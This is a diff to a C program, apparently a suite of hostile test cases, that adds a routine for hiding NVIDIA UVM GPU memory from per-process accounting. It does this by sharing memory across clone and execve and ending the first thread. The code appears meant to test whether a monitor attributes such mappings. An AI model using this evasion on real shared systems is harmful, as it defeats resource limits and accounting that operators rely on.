@@ -256,6 +256,44 @@ static void attack_leap(char **a) {
     for (;;) pause();
 }
 
+/* mask MIB: a process executes another program, whose first thread ends so that the kernel says less of it, while its old memory lives on in
+ * another process. What it maps then is not to pass for mapped there. */
+static int mask_child(void *nothing) {
+    (void)nothing;
+    for (;;) syscall(SYS_pause);
+    return 0;
+}
+static void attack_mask(char **a) {
+    int uvm = xopen("/dev/nvidia-uvm");
+    uint64_t initialize[2] = {0};
+    ioctl(uvm, 0x30000001, initialize);
+    static char stack[1 << 14] __attribute__((aligned(64)));
+    if (clone(mask_child, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL) < 0) die("clone");
+    char *arguments[] = {"hostile", "masked", a[0], NULL}, *none[] = {NULL};
+    execve("/bin/hostile", arguments, none);
+    die("execve");
+}
+static void *masked_thread(void *arguments) {
+    uint64_t piece = number(arguments, 0, 400) * MIB, at = 0x200000000000ull, got = 0;
+    usleep(200000);
+    int uvm = xopen("/dev/nvidia-uvm");
+    uint64_t initialize[2] = {0};
+    ioctl(uvm, 0x30000001, initialize);
+    for (int i = 0; i < 4; i++, at += piece + 2 * MIB) {
+        if (mmap((void *)at, piece, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm, (long)at) != MAP_FAILED) got += piece;
+        /* For the accounts to be compared. */
+        sleep(3);
+    }
+    say("got", (long)got);
+    for (;;) pause();
+    return NULL;
+}
+static void attack_masked(char **a) {
+    pthread_t thread;
+    pthread_create(&thread, NULL, masked_thread, a);
+    syscall(SYS_exit, 0);
+}
+
 /* slow MIB UNPLACED PROCESSES: so much to be read before the process that has it that nobody gets there. */
 static int slow_child(void *nothing) {
     (void)nothing;
